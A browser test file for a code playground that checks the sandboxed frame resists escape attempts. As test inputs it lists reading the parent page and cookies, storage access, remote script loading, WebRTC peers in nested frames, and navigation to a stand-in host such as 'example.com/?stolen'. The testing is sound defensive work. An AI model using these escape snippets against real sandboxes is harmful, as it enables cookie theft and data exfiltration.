import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { EXAMPLES } from "../../../app/playground/examples.ts";
import { allowProblems, openPage } from "../../support/browser.ts";
import { consoleOf, openPlayground, passed, runCode, write } from "../../support/playground.ts";
import { siteUrl } from "../../support/site-client.ts";

/** Requests from now on, without the icon, which Chromium requests again when the URL changes. */
function requestsFrom(page: Page): string[] {
  const urls: string[] = [];
  const note = (url: string) => url.endsWith("/favicon.svg") || urls.push(url);
  page.on("requestfinished", (request) => note(request.url()));
  page.on("response", (response) => note(response.url()));
  return urls;
}

const ATTEMPTS = {
  "the page": "parent.parent.document.title",
  "the page by top": "top.document.title",
  "the frame around it": "parent.document.title",
  cookies: "document.cookie",
  localStorage: "localStorage.length",
  sessionStorage: "sessionStorage.length",
  indexedDB:
    'await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no })',
  caches: 'await caches.open("x")',
  "our API": 'await fetch(SITE + "/api/courses")',
  "another host": 'await fetch("https://example.com/")',
  XMLHttpRequest:
    'await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", SITE + "/api"); x.onload = ok; x.onerror = no; x.send() })',
  WebSocket:
    'await new Promise((ok, no) => { const s = new WebSocket("wss://example.com"); s.onopen = ok; s.onerror = no; })',
  "a picture":
    'await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = SITE + "/og/default.png" })',
  "a script":
    'await new Promise((ok, no) => { const s = document.createElement("script"); s.onload = ok; s.onerror = no; s.src = "https://example.com/x.js"; document.head.append(s) })',
  "a module": "await Function(\"return import('https://example.com/x.js')\")()",
  "a worker":
    'new Worker(URL.createObjectURL(new Blob([""]))); await new Promise((_, no) => setTimeout(no, 300))',
  "a window": 'if (window.open("https://example.com/") === null) throw new Error("blocked")',
  "the top": 'top.location.href = "https://example.com/"',
  "the frame around it, led away": 'parent.location.href = "https://example.com/"',
  "a peer": "new RTCPeerConnection()",
  "a peer of an empty frame": "new (NESTED()).contentWindow.RTCPeerConnection()",
  "a peer of a frame with a document":
    'await REACHED(NESTED({ srcdoc: \'<script>new RTCPeerConnection(); parent.postMessage("reached", "*")</script>\' }))',
  "a peer of a frame with a script for an address":
    'await REACHED(NESTED({ src: \'javascript:new RTCPeerConnection(); parent.postMessage("reached", "*")\' }))',
  "a peer of a frame in a frame":
    "await REACHED(NESTED({ srcdoc: '<iframe srcdoc=\"<script>new RTCPeerConnection(); parent.parent.postMessage(1, String.fromCharCode(42))</script>\"></iframe>' }))",
};

/** Helpers for the attempts: a nested frame, and whether code in it succeeded. */
const HELPERS = `
function NESTED(fields) { const f = document.createElement("iframe"); Object.assign(f, fields); document.body.append(f); return f; }
function REACHED() { return new Promise((ok, no) => { addEventListener("message", (event) => { if (event.source !== top) ok(); }); setTimeout(no, 500); }); }
`;

test("the sandbox holds against every attempt to leave it, and no request leaves", async () => {
  allowProblems(
    /Content Security Policy|Failed to load|Unsafe attempt|sandbox|Blocked|favicon|csp|example\.com/i,
  );
  const page = await openPage();
  await page.context().addCookies([{ name: "secret", value: "1", url: siteUrl }]);
  await openPlayground(page);
  await passed(page);
  const requests = requestsFrom(page);
  const violations = page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const seen: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) => seen.push(event.violatedDirective));
        document.addEventListener("greenbar-done", () => resolve(seen));
      }),
  );
  const attempts = Object.entries(ATTEMPTS).map(
    ([name, code]) =>
      `try { ${code}; console.log(${JSON.stringify(`ESCAPED ${name}`)}) } catch { console.log(${JSON.stringify(`held ${name}`)}) }`,
  );
  await write(
    page,
    `const SITE = "${siteUrl}";${HELPERS}(async () => {\n${attempts.join("\n")}\nconsole.log("all tried");\n})();`,
  );
  await consoleOf(page).getByText("all tried").waitFor();

  const lines = await consoleOf(page)
    .getByText(/held|ESCAPED/)
    .allTextContents();
  expect(lines).toEqual(Object.keys(ATTEMPTS).map((name) => `held ${name}`));
  expect(page.url()).toMatch(new RegExp(`^${siteUrl}/playground`));
  expect(page.context().pages()).toHaveLength(1);
  await page.evaluate(() => document.dispatchEvent(new Event("greenbar-done")));
  expect(await violations).toEqual([]);
  expect(requests).toEqual([]);
});

test.each([
  ["a script", 'location.href = "https://example.com/?stolen"'],
  ["our own page", `location.href = "SITE/courses"`],
  [
    "a form",
    'const f = document.createElement("form"); f.action = "https://example.com/"; document.body.append(f); f.submit()',
  ],
  [
    "a refresh",
    'document.head.innerHTML += \'<meta http-equiv="refresh" content="0;url=https://example.com/">\'',
  ],
  [
    "an inner frame",
    'const f = document.createElement("iframe"); f.src = "https://www.youtube-nocookie.com/"; document.body.append(f)',
  ],
])("the frame cannot be navigated away by %s", async (_what, code) => {
  allowProblems(
    /Content Security Policy|Failed to load|Unsafe attempt|sandbox|Blocked|csp|example\.com|youtube|courses/i,
  );
  const page = await runCode(EXAMPLES[0].code);
  await passed(page);
  const requests = requestsFrom(page);
  await write(page, `console.log("leaving");\n${code.replace("SITE", siteUrl)}`);
  await consoleOf(page).getByText("leaving").waitFor();
  await page.waitForTimeout(700);
  expect(requests).toEqual([]);
});
